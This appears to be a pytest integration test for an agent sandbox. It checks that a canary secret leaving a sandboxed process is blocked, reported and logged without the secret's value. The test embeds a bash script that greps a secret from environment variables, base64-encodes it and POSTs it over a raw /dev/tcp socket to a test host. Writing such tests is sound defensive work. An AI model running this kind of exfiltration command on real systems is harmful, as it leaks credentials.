"""The fake secret of a bottle, from its environment to the alarm: with a real controller, sidecar and upstream."""

import base64
import json
from typing import Any

import pytest

from app.core.model import LaunchRequest
from app.paths import Paths
from sidecar.contract import LISTEN_PORT
from tests.conftest import until
from tests.integration.asking import HOST, Asking, asking
from tests.integration.launching import launched

pytestmark = pytest.mark.sandbox

LEAK = f"""
value=$(env | grep -E '^[A-Z]+_[A-Z]+_SECRET=' | cut -d= -f2)
[ ${{#value}} = 64 ] || exit 9
text=$(printf %s "$value" | base64 -w0)
exec 3<>/dev/tcp/127.0.0.1/{LISTEN_PORT}
printf 'POST http://{HOST}/leak HTTP/1.1\\r\\nHost: {HOST}\\r\\nConnection: close\\r\\n' >&3
printf 'Content-Length: %s\\r\\n\\r\\n%s' ${{#text}} "$text" >&3
cat <&3 > answer
printf %s "$value" > value
sleep 3600
"""


async def _leak(rig: Asking) -> str:
    """The value that the bottle tried to send to a host it may reach."""
    script = ("/bin/bash", "-c", LEAK)
    values = {"bottles": ("plain",), "command": script, "cwd": str(rig.project), "label": "leaky", "headless": True}
    await launched(rig.client, LaunchRequest.model_validate(values))
    await until((rig.project / "value").exists)
    return (rig.project / "value").read_text()


async def test_a_canary_on_its_way_out_is_stopped_told_of_and_in_the_audit_log(paths: Paths) -> None:
    async with asking(paths) as rig:
        value = await _leak(rig)
        answer = (rig.project / "answer").read_text()
        assert " 403 " in answer.splitlines()[0]
        assert "canary_leaked" in answer
        assert rig.arrived == {}

        async def told() -> bool:
            return any(notice.about == "canary" and notice.slug == "leaky" for notice in await rig.client.notices())

        async def rows() -> list[dict[str, Any]]:
            return [row for row in (await rig.client.audit())["rows"] if row["action"] == "canary-alarm"]

        await until(told)
        await until(rows)
        (row,) = await rows()
        assert row["slug"] == "leaky"
        everything = json.dumps([row, [notice.model_dump(mode="json") for notice in await rig.client.notices()]])
        assert value not in everything
        assert base64.b64encode(value.encode()).decode() not in everything
